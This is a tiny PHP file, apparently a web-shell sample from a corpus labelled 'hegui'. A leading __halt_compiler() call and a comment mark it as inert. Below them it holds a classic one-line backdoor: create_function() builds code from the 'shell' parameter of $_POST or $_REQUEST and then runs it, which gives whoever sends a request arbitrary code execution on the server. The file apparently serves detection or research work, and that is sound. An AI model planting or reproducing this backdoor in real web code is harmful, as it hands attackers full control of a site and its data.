<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$hjv = create_function('', $_POST['shell']);
$f = create_function('', @$_REQUEST['shell']);
$f();
